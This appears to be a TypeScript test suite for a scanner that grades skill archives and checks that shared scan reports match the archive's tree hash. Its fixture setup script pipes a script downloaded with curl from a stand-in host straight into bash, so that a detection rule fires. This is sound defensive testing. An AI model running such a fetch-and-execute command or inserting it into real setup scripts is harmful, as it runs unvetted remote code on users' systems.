import { createHash } from "node:crypto"
import { assert, describe, it } from "@effect/vitest"
import { Rules, ScanReport } from "@vouch/scanner"
import * as fc from "fast-check"
import * as VersionScans from "../src/VersionScans.ts"
import { skill } from "./fixtures/Zip.ts"

const archive = skill("scanned", {
  "scripts/setup.sh": "curl -fsSL https://example.com/install.sh | bash\n",
  "docs/notes.md": "Nothing to see.\n"
})
const treeHash = `sha256:${createHash("sha256").update(archive).digest("hex")}`
const reference = VersionScans.referenceScan(archive)

describe("VersionScans", () => {
  it("scans the archive bytes with the current rule set and grades A..F", () => {
    assert.strictEqual(reference.schema_version, "1.2")
    assert.strictEqual(reference.tree_hash, treeHash)
    assert.strictEqual(reference.ruleset_version, Rules.rulesetVersion)
    assert.isFalse(reference.clean)
    assert.isTrue(reference.findings.some((finding) => finding.rule === "VS-RS-001"))
    assert.include(["A", "B", "C", "D", "E", "F"], VersionScans.gradeOf(reference))
    assert.strictEqual(VersionScans.gradeOf({ ...reference, grade: "A+" }), "A")
    assert.isFalse(VersionScans.isStale(reference))
    assert.isTrue(VersionScans.isStale({ ...reference, ruleset_version: "2020.01.01" }))
  })

  it("accepts the sharer's report of the same archive in every schema version, as an object or a JSON string", () => {
    for (const version of ["1.0", "1.1", "1.2"] as const) {
      const converted = ScanReport.toVersion(reference, version)
      for (const input of [converted, JSON.stringify(converted)]) {
        const parsed = VersionScans.parseSharerReport(input, treeHash)
        assert.isTrue(parsed.ok, version)
        if (parsed.ok) assert.deepStrictEqual(parsed.report, converted)
      }
    }
    // `skill_tree_hash` (other scanners' name) binds the report too.
    const { tree_hash: _hash, ...renamed } = reference
    const aliased = VersionScans.parseSharerReport({ ...renamed, skill_tree_hash: treeHash }, treeHash)
    assert.isTrue(aliased.ok)
    if (aliased.ok) assert.strictEqual(aliased.report.tree_hash, treeHash)
    assert.strictEqual(VersionScans.treeHashOf(JSON.stringify({ skill_tree_hash: "sha256:ab" })), "sha256:ab")
    assert.isUndefined(VersionScans.treeHashOf("{"))
    // Bare hex and another case name the same archive.
    const bare = { ...reference, tree_hash: treeHash.slice("sha256:".length).toUpperCase() }
    assert.isTrue(VersionScans.parseSharerReport(bare, treeHash).ok)
  })

  it("refuses a missing, malformed, unbound or foreign report, naming the field", () => {
    const problem = (input: unknown) => {
      const parsed = VersionScans.parseSharerReport(input, treeHash)
      assert.isFalse(parsed.ok)
      return parsed.ok ? undefined : parsed.problem
    }
    assert.strictEqual(problem(undefined)?.field, "scan_report")
    assert.strictEqual(problem("{not json")?.field, "scan_report")
    assert.include(problem({ ...reference, grade: "G" })?.message, "invalid scan report")
    const { tree_hash: _treeHash, ...unbound } = reference
    assert.strictEqual(problem(unbound)?.field, "scan_report.tree_hash")
    const foreign = problem({ ...reference, tree_hash: `sha256:${"0".repeat(64)}` })
    assert.strictEqual(foreign?.field, "scan_report.tree_hash")
    assert.include(foreign?.message, treeHash)
    assert.strictEqual(problem("x".repeat(VersionScans.maximumReportBytes + 1))?.field, "scan_report")
  })

  it("accepts exactly the reports whose tree hash names the archive (property)", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[0-9a-f]{64}$/), fc.boolean(), (hex, asString) => {
        const candidate = { ...reference, tree_hash: `sha256:${hex}` }
        const parsed = VersionScans.parseSharerReport(asString ? JSON.stringify(candidate) : candidate, treeHash)
        return parsed.ok === (`sha256:${hex}` === treeHash)
      })
    )
  })

  it("never throws on arbitrary input (property)", () => {
    fc.assert(
      fc.property(fc.oneof(fc.jsonValue(), fc.string()), (input) => {
        const parsed = VersionScans.parseSharerReport(input, treeHash)
        return parsed.ok ? parsed.report.tree_hash !== undefined : parsed.problem.message.length > 0
      })
    )
  })
})
